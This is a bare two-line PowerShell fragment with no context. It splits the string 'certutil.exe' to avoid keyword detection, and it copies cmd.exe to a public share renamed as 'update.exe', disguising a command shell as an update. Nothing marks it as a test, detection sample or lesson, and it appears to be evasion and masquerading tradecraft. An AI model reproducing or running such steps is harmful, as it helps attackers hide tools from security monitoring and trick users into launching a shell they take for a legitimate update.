$tool = 'cert' + 'util.exe'
[IO.File]::Copy('C:\Windows\System32\cmd.exe', 'D:\public\update.exe')
